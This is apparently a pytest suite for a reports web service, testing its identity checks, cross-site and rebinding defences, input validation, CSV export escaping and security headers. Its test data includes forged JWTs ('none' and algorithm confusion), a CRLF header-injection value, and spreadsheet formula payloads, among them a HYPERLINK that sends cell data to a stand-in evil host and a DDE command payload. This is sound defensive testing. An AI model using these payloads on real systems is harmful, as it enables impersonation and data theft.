"""The web layer as something safe to put behind a company's login: who the user is comes from a
trusted identity, cross-site and rebinding requests are refused, bad input is a 4xx with a JSON
message, exports cannot carry formulas, and every answer has the standard security headers.

The HTTP layer runs in this process (aiohttp's test server) over the real gRPC services."""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import time
from pathlib import Path
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from helpers import email_event, poll_async
from pipeline import Pipeline, open_web

from campaignreports.v1 import event_pb2, ingest_service_pb2, query_service_pb2
from campaignreports.web.application import SECURITY_HEADERS

pytestmark = pytest.mark.timeout(90)

USER = "X-Forwarded-User"
LAYOUT = {
    "placements": [
        {"widgetId": "email_statistics", "x": 0, "y": 0, "width": 4, "height": 3, "view": "table"}
    ],
    "revision": 0,
}
JSON = {"Content-Type": "application/json"}


async def answer(response: Any) -> tuple[int, dict[str, Any]]:
    """Status and JSON body; every answer of the API, errors included, is JSON."""
    assert response.content_type == "application/json", await response.text()
    return response.status, await response.json()


# ---- identity ------------------------------------------------------------------------------


async def test_with_a_proxy_identity_requests_without_it_are_refused(pipeline: Pipeline) -> None:
    async with open_web(pipeline, CR_WEB_IDENTITY="header") as client:
        for method, path in [
            ("GET", "/"),
            ("GET", "/static/app.js"),
            ("GET", "/api/config"),
            ("GET", "/api/campaigns"),
            ("GET", "/api/report?campaign=c1&tab=email"),
            ("GET", "/api/export.csv?campaign=c1&tab=email"),
            ("GET", "/api/dashboard?tab=email&user=alice"),
            ("PUT", "/api/dashboard?tab=email&user=alice"),
            ("DELETE", "/api/dashboard?tab=email&user=alice"),
        ]:
            status, body = await answer(await client.request(method, path, json=LAYOUT))
            assert status == 401 and USER in body["error"], (method, path)
        status, body = await answer(await client.get("/api/config", headers={USER: "alice"}))
        assert status == 200 and body["user"] == "alice" and body["tenant"] == pipeline.tenant_id


async def test_one_user_never_changes_another_users_layout(pipeline: Pipeline) -> None:
    async with open_web(pipeline, CR_WEB_IDENTITY="header") as client:
        alice, bob = {USER: "alice"}, {USER: "bob"}
        status, saved = await answer(await client.put("/api/dashboard?tab=email", json=LAYOUT, headers=alice))
        assert status == 200 and int(saved["revision"]) > 0
        # Bob names Alice in every way the page could: he only ever reaches his own layout.
        status, seen = await answer(await client.get("/api/dashboard?tab=email&user=alice", headers=bob))
        assert status == 200 and int(seen["revision"]) == 0
        status, _ = await answer(
            await client.put(
                "/api/dashboard?tab=email&user=alice", json={**LAYOUT, "revision": 0}, headers=bob
            )
        )
        assert status == 200
        await client.delete("/api/dashboard?tab=email&user=alice", headers=bob)
        status, still = await answer(await client.get("/api/dashboard?tab=email", headers=alice))
        assert still == saved


async def test_the_tenant_can_come_from_the_proxy(pipeline: Pipeline) -> None:
    async with open_web(
        pipeline, CR_WEB_IDENTITY="header", CR_WEB_TENANT_HEADER="X-Forwarded-Tenant"
    ) as client:
        status, body = await answer(await client.get("/api/config", headers={USER: "alice"}))
        assert status == 401 and "X-Forwarded-Tenant" in body["error"]
        status, body = await answer(
            await client.get("/api/config", headers={USER: "alice", "X-Forwarded-Tenant": "globex"})
        )
        assert status == 200 and body["tenant"] == "globex"


def _keys(tmp_path: Path) -> tuple[rsa.RSAPrivateKey, Path]:
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    path = tmp_path / "idp.pem"
    path.write_bytes(
        private.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return private, path


def _forged(claims: dict[str, Any], algorithm: str, secret: bytes) -> str:
    """A token no library would make: `none`, or HMAC keyed with the public key (alg confusion)."""

    def part(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    signed = (
        f"{part(json.dumps({'alg': algorithm, 'typ': 'JWT'}).encode())}.{part(json.dumps(claims).encode())}"
    )
    signature = hmac.new(secret, signed.encode(), hashlib.sha256).digest() if secret else b""
    return f"{signed}.{part(signature)}"


async def test_a_signed_bearer_token_names_the_user_and_tenant(pipeline: Pipeline, tmp_path: Path) -> None:
    provider, public_key = _keys(tmp_path)
    impostor, _ = _keys(tmp_path / "..")
    claims = {
        "sub": "alice",
        "org": pipeline.tenant_id,
        "iss": "https://login.example",
        "aud": "reports",
        "exp": int(time.time()) + 300,
    }

    def bearer(key: rsa.RSAPrivateKey = provider, algorithm: str = "RS256", **changes: Any) -> dict[str, str]:
        token = jwt.encode({**claims, **changes}, key, algorithm=algorithm)
        return {"Authorization": f"Bearer {token}"}

    async with open_web(
        pipeline,
        CR_WEB_IDENTITY="jwt",
        CR_WEB_JWT_KEY_FILE=str(public_key),
        CR_WEB_JWT_ISSUER="https://login.example",
        CR_WEB_JWT_AUDIENCE="reports",
        CR_WEB_JWT_TENANT_CLAIM="org",
    ) as client:
        status, body = await answer(await client.get("/api/config", headers=bearer()))
        assert status == 200 and (body["user"], body["tenant"]) == ("alice", pipeline.tenant_id)
        for refused in [
            {},
            bearer(exp=int(time.time()) - 10),
            bearer(key=impostor),
            bearer(aud="someone-else"),
            bearer(iss="https://evil.example"),
            bearer(org=None),
            {"Authorization": "Bearer " + _forged(claims, "HS256", public_key.read_bytes())},
            {"Authorization": "Bearer " + _forged(claims, "none", b"")},
            {"Authorization": "Bearer not-a-token"},
        ]:
            status, body = await answer(await client.get("/api/config", headers=refused))
            assert status == 401, (refused, body)


async def test_without_identity_the_user_parameter_is_for_development_only(pipeline: Pipeline) -> None:
    async with open_web(pipeline) as client:
        status, body = await answer(await client.get("/api/config?user=mallory"))
        assert status == 200 and body["user"] == "web-user"
    async with open_web(pipeline, CR_WEB_ALLOW_USER_PARAMETER="true") as client:
        status, body = await answer(await client.get("/api/config?user=mallory"))
        assert body["user"] == "mallory"


# ---- cross-site requests and DNS rebinding ------------------------------------------------


async def test_cross_site_and_rebound_requests_are_refused(pipeline: Pipeline) -> None:
    async with open_web(pipeline) as client:
        own_origin = f"http://127.0.0.1:{client.port}"
        status, body = await answer(
            await client.put(
                "/api/dashboard?tab=email",
                data=b'{"placements": [], "revision": 0}',
                headers={"Content-Type": "text/plain"},
            )
        )
        assert status == 415 and "application/json" in body["error"]
        status, body = await answer(
            await client.put(
                "/api/dashboard?tab=email", json=LAYOUT, headers={"Origin": "http://evil.example"}
            )
        )
        assert status == 403 and body["field"] == "Origin"
        status, body = await answer(
            await client.get("/api/config", headers={"Host": f"evil.example:{client.port}"})
        )
        assert status == 400 and body["field"] == "Host"
        status, _ = await answer(
            await client.put("/api/dashboard?tab=email", json=LAYOUT, headers={"Origin": own_origin})
        )
        assert status == 200
    async with open_web(pipeline, CR_WEB_ALLOWED_HOSTS="reports.example.com") as client:
        status, _ = await answer(await client.get("/api/config"))
        assert status == 400
        status, _ = await answer(await client.get("/api/config", headers={"Host": "reports.example.com"}))
        assert status == 200


# ---- bad input is a 4xx with a JSON message ------------------------------------------------


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (b'{"placements": [], "revision": "abc"}', "revision"),
        (b'{"placements": [], "revision": null}', "revision"),
        (b'{"placements": [], "revision": 1e400}', "revision"),
        (b'{"placements": [], "revision": 1180591620717411303424}', "revision"),  # 2**70
        (b'{"placements": [], "revision": -1}', "revision"),
        (b'{"placements": [], "revision": true}', "revision"),
        (b'{"placements": "nope"}', "placements"),
        (b'{"placements": [1, 2]}', "placements"),
        (b"\xff\xfe not utf-8", "body"),
        (b"[]", "body"),
        (b"[" * 100_000, "body"),
    ],
)
async def test_bad_bodies_are_400_naming_the_field(pipeline: Pipeline, body: bytes, field: str) -> None:
    async with open_web(pipeline) as client:
        status, answered = await answer(await client.put("/api/dashboard?tab=email", data=body, headers=JSON))
    assert status == 400 and answered["field"] == field


async def test_campaign_ids_that_would_break_a_header_are_refused_or_escaped(pipeline: Pipeline) -> None:
    async with open_web(pipeline) as client:
        status, body = await answer(
            await client.get("/api/export.csv?campaign=c1%0D%0ASet-Cookie:x&tab=email")
        )
        assert status == 400 and body["error"].startswith("campaign_id: ")
        response = await client.get('/api/export.csv?campaign=spring"sale;x&tab=email')
        assert response.status == 200
        disposition = response.headers["Content-Disposition"]
        assert disposition == (
            "attachment; filename=\"spring_sale_x-email.csv\"; filename*=UTF-8''spring%22sale%3Bx-email.csv"
        )


async def test_unknown_routes_and_methods_answer_json(pipeline: Pipeline) -> None:
    async with open_web(pipeline) as client:
        assert (await answer(await client.get("/api/nothing")))[0] == 404
        assert (await answer(await client.post("/api/dashboard?tab=email", json=LAYOUT)))[0] == 405


# ---- exports and headers -------------------------------------------------------------------


async def test_exported_event_text_cannot_be_a_formula(pipeline: Pipeline) -> None:
    """Finding 2: reasons beginning with = + - @ went into the CSV as they were."""
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    events = [
        email_event(
            pipeline.tenant_id,
            "csv-campaign",
            event_pb2.EVENT_TYPE_BOUNCED,
            f"p{i}",
            reason=reason,
            bounce_category=event_pb2.BOUNCE_CATEGORY_HARD,
        )
        for i, reason in enumerate(hostile)
    ]
    reply = await pipeline.ingest.Ingest(ingest_service_pb2.IngestRequest(events=events))
    assert reply.accepted == len(hostile), reply.rejected
    request = query_service_pb2.GetWidgetRequest(
        tenant_id=pipeline.tenant_id, campaign_id="csv-campaign", widget_id="email_bounce_reasons"
    )
    await poll_async(lambda: pipeline.query.GetWidget(request), lambda w: len(w.rows) == len(hostile))
    async with open_web(pipeline) as client:
        response = await client.get(
            "/api/export.csv?campaign=csv-campaign&tab=email&widget=email_bounce_reasons"
        )
        text = await response.text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["row"] for row in rows} == {f"'{reason}" for reason in hostile}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)


async def test_every_answer_carries_the_security_headers(pipeline: Pipeline) -> None:
    async with open_web(pipeline, CR_WEB_IDENTITY="header") as client:
        responses = [
            await client.get("/", headers={USER: "alice"}),
            await client.get("/api/report?campaign=c1&tab=nope", headers={USER: "alice"}),
            await client.get("/api/config"),  # 401
            await client.get("/nowhere", headers={USER: "alice"}),
        ]
        watch = await client.get("/api/watch?campaign=c1&tab=email", headers={USER: "alice"})
        responses.append(watch)
        watch.close()
    for response in responses:
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, (response.url, name)
    assert "frame-ancestors 'none'" in SECURITY_HEADERS["Content-Security-Policy"]
